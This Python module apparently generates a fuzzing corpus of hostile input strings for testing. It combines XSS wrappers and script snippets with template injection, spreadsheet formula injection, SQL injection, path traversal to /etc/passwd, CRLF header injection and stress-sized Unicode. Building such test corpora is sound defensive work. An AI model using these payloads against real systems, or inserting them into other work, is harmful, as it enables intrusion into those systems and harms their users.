"""Names and texts that somebody sends to do harm: markup, templates, formulas, control signs, directions, sizes."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

_SCRIPTS = (
    "alert(1)",
    "alert`1`",
    "document.title='broken'",
    "fetch('//x')",
    "self['al'+'ert'](1)",
    "confirm(1)",
    "prompt(1)",
    "import('//x')",
    "print()",
    "location='javascript:alert(1)'",
)
_SHELLS = (
    "<script>{}</script>",
    "<SCRIPT SRC=//x>{}</SCRIPT>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<math><mtext></table><img src onerror={}>",
    "<input autofocus onfocus={}>",
    '"><script>{}</script>',
    "' onmouseover='{}",
    '" onfocus="{}" autofocus="',
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</option></select><img src onerror={}>",
    "--><script>{}</script>",
    "]]><script>{}",
    "<style>@import'//x';</style>{}",
    "<link rel=stylesheet href=//x>{}",
    "<base href=//x>{}",
    "<form action=//x><button>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "{{{{{}}}}}",
    "{{% {} %}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "{{{{constructor.constructor('{}')()}}}}",
    "<x hx-get='//x' hx-trigger=load hx-on::load='{}'>",
    "<div hx-vals='js:{{a:{}}}' hx-post=/sign-out hx-trigger=load>",
    "\\u003cscript\\u003e{}",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "\u202e<script>{}</script>",
    "\ufeff<img src onerror={}>",
    "<scr\0ipt>{}</scr\0ipt>",
    "<img/src/onerror={}>",
    "<a\thref=\njavascript:{}>x",
    "data:text/html,<script>{}</script>",
    "<template><script>{}</script></template>",
)
_ODD = (
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    '=HYPERLINK("//x")',
    "\t=1+1",
    "'; DROP TABLE message; --",
    '" OR 1=1 --',
    "../../../etc/passwd",
    "..\\..\\windows",
    "%00",
    "\0",
    "\x1b[31mred",
    "\r\nSet-Cookie: x=1",
    "NULL",
    "undefined",
    "NaN",
    "\ud800",
    "\udfff",
    "\uffff",
    "\ufffe",
    "А" * 5000,
    "\u0301" * 300,
    "\u200b" * 100,
    "\u202e\u2066обратно",
    "💥" * 200,
    "ﷺ" * 50,
    "<" * 3000,
    "&" * 3000,
    "{{" * 500,
    "\\" * 2000,
    "%s%s%s%n",
    "{0}{}",
    "{message}",
    "()[]{}*+?.^$|" * 40,
)


def corpus() -> Iterator[str]:
    """More than 2,000 of them."""
    for shell, script in itertools.product(_SHELLS, _SCRIPTS):
        text = shell.format(script)
        yield text
        yield text.upper()
        yield f"Иванова {text} Мария"
        yield text.replace("<", "\uff1c").replace(">", "\uff1e")
        yield text.replace(" ", "\x0b")
    yield from _ODD
